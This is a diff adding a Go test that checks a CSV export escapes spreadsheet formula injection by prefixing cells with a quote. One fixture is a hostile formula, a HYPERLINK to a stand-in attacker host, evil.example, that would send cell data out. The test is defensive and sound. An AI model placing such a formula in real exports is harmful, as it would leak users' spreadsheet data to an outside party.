@@ -437,3 +437,58 @@ func TestParse(t *testing.T) {
 		t.Errorf("CSV content type = %q", got)
 	}
 }
+
+// readCSV parses a CSV export.
+func readCSV(t *testing.T, data []byte) [][]string {
+	t.Helper()
+	rows, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	return rows
+}
+
+// TestFormulasAreNeutralized: a text cell a spreadsheet would take for a
+// formula (starting with =, +, -, @, a tab or a carriage return) is
+// written with a quote before it; other text and the numeric columns
+// (here -1 requirements, a count no index gives but a caller might) are
+// written as they are.
+func TestFormulasAreNeutralized(t *testing.T) {
+	t.Parallel()
+	var buf bytes.Buffer
+	people := []*analysis.Readiness{
+		{PersonID: "P-1", Name: `=HYPERLINK("http://evil.example/?x="&A1,"Click")`, Organization: "+SUM(A1:A9)", Requirements: -1},
+		{PersonID: "P-2", Name: "@cmd", Organization: "-2+3", Requirements: 2},
+		{PersonID: "P-3", Name: "\tTab", Organization: "\rReturn", Requirements: 0},
+		{PersonID: "P-4", Name: "Ada = Lovelace", Organization: "ODC Poland", Requirements: 3},
+	}
+	if err := export.Readiness(&buf, export.CSV, people); err != nil {
+		t.Fatal(err)
+	}
+	rows := readCSV(t, buf.Bytes())
+	want := [][2]string{
+		{`'=HYPERLINK("http://evil.example/?x="&A1,"Click")`, "'+SUM(A1:A9)"},
+		{"'@cmd", "'-2+3"},
+		{"'\tTab", "'\rReturn"},
+		{"Ada = Lovelace", "ODC Poland"},
+	}
+	for i, w := range want {
+		if got := [2]string{rows[i+1][1], rows[i+1][3]}; got != w {
+			t.Errorf("row %d: name and organization %q, want %q", i+1, got, w)
+		}
+	}
+	if got := rows[1][6]; got != "-1" {
+		t.Errorf("the numeric column requirements holds %q, want -1 as it is", got)
+	}
+
+	buf.Reset()
+	m := &analysis.Matrix{Levels: []string{"Basic"}, Courses: []analysis.MatrixCourse{{Code: "A-101"}},
+		Rows: []analysis.MatrixRow{{SubCompetency: "1.A", Competency: "1.0", Statement: "-Negotiate", CountByLevel: []int{1},
+			Cells: []analysis.Cell{{Course: "A-101", Level: "Basic"}}, Highest: "Basic"}}}
+	if err := export.Coverage(&buf, export.CSV, m); err != nil {
+		t.Fatal(err)
+	}
+	if got := readCSV(t, buf.Bytes())[1][2]; got != "'-Negotiate" {
+		t.Errorf("coverage statement %q, want '-Negotiate", got)
+	}
+}
